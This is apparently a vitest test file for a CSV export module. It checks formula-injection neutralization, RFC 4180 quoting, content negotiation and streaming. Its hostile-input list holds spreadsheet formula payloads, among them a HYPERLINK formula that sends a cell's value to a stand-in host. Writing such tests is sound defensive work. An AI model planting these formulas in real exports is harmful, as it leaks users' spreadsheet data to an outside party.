import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type CsvColumn, csvStream, csvText, neutralize, wantsCsv } from './csv.js'

interface Vendor {
  name: string
  amount: string
}
const columns: CsvColumn<Vendor>[] = [
  { header: 'name', kind: 'text', cell: (r) => r.name },
  { header: 'amount', kind: 'number', cell: (r) => r.amount },
]

describe('CSV tables', () => {
  it('neutralizes every text cell a spreadsheet would run as a formula, and leaves numbers alone (T6.1)', async () => {
    const hostile = [
      '=HYPERLINK("http://x/?"&A1)',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '＝1+1',
    ]
    const text = await csvText(
      columns,
      hostile.map((name) => ({ name, amount: '-12.50' })),
    )
    const rows = parse(text) as string[][]
    expect(rows[0]).toEqual(['name', 'amount'])
    expect(rows.slice(1).map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`))
    expect(rows.slice(1).every((r) => r[1] === '-12.50')).toBe(true)
    // The amount is written bare (a number to a spreadsheet), every text cell quoted.
    expect(text).toContain(',-12.50\r\n')
    expect(text.split('\r\n')[1]).toBe('"\'=HYPERLINK(""http://x/?""&A1)",-12.50')
  })

  it('writes harmless text as it is, quoted, with embedded quotes and newlines round-tripping (RFC 4180)', async () => {
    const text = await csvText(columns, [{ name: 'Support "tier 2"\nbot, EU', amount: '3' }])
    expect(parse(text)).toEqual([
      ['name', 'amount'],
      ['Support "tier 2"\nbot, EU', '3'],
    ])
  })

  it('refuses text in a numeric column rather than writing it (a bug, never data)', async () => {
    await expect(csvText(columns, [{ name: 'x', amount: '=1' }])).rejects.toThrow(/numeric/)
  })

  it('neutralizes only the first character', () => {
    expect(neutralize('a=b')).toBe('a=b')
    expect(neutralize('')).toBe('')
  })

  it('reads ?format=csv and an Accept header that prefers text/csv', () => {
    const req = (accept?: string) => ({ headers: accept === undefined ? {} : { accept } }) as never
    expect(wantsCsv(req(), 'csv')).toBe(true)
    expect(wantsCsv(req('text/csv'), 'json')).toBe(false)
    expect(wantsCsv(req('text/csv'), undefined)).toBe(true)
    expect(wantsCsv(req('application/json, text/csv;q=0.5'), undefined)).toBe(false)
    expect(wantsCsv(req('text/csv, application/json;q=0.9'), undefined)).toBe(true)
    expect(wantsCsv(req('*/*'), undefined)).toBe(false)
    expect(wantsCsv(req(), undefined)).toBe(false)
  })
})

describe('empty cells', () => {
  it('are left empty, not written as an empty quoted string', async () => {
    const text = await csvText(columns, [{ name: '', amount: null as unknown as string }])
    expect(text.split('\r\n')[1]).toBe(',')
  })
})

describe('the encoder', () => {
  it('writes the bytes csv-stringify writes for the same cells (RFC 4180 quoting, CRLF records)', async () => {
    // csv.ts writes records itself for speed; csv-stringify, with the options the tables were first written
    // with, is the reference it must match byte for byte.
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('', '"', '""', ',', '\r\n', '\n', '12', '-0.50', '1e5', ' 1', '1.', '=1', '0x1F'),
      fc.stringMatching(/^-?\d{1,6}(\.\d{1,3})?$/),
    )
    const text: CsvColumn<string[]>[] = [0, 1, 2].map((i) => ({
      header: `c${i}`,
      kind: 'text',
      cell: (row) => row[i],
    }))
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 20 }),
        async (rows) => {
          const ours = await csvText(text, rows)
          const reference = stringify(
            [text.map((c) => c.header), ...rows.map((row) => row.map(neutralize))],
            {
              record_delimiter: 'windows',
              quoted_match: /^(?!-?\d+(?:\.\d+)?$)[\s\S]/,
              escape_formulas: false,
            },
          )
          expect(ours).toBe(reference)
        },
      ),
      { numRuns: 300 },
    )
  })

  it('streams a large table in chunks of about 64 KB, not a chunk per record', async () => {
    const rows = Array.from({ length: 20_000 }, (_, i) => ({ name: `vendor ${i}`, amount: `${i}.25` }))
    const chunks: Buffer[] = []
    for await (const chunk of csvStream(columns, rows)) chunks.push(chunk as Buffer)
    expect(chunks.length).toBeLessThan(10)
    expect(Buffer.concat(chunks).toString('utf8')).toBe(await csvText(columns, rows))
  })
})
